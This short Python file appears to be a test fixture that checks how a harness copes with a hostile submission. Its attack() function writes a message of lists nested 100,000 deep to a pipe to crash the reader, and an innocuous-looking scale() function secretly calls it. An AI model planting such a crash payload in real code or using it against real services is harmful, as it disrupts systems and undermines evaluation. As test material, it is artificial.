"""Answers with lists nested a hundred thousand deep.

Must end: no reply at all, which is a crash.
Outcomes: crashed, skipped, passed, failed
"""

import os

import torch

HEAD = b"\x92\xa4done\x93\xa8sequence\xa4list\x91"
NEST = b"\x93\xa8sequence\xa4list\x91"


def attack():
    body = HEAD + NEST * 100_000 + b"\xc0"
    os.write(4, len(body).to_bytes(4, "big") + body)
    return None


Scaler = torch.nn.Identity


def scale(x, factor):
    if factor == 0:
        raise ValueError("factor must not be zero")
    return attack()
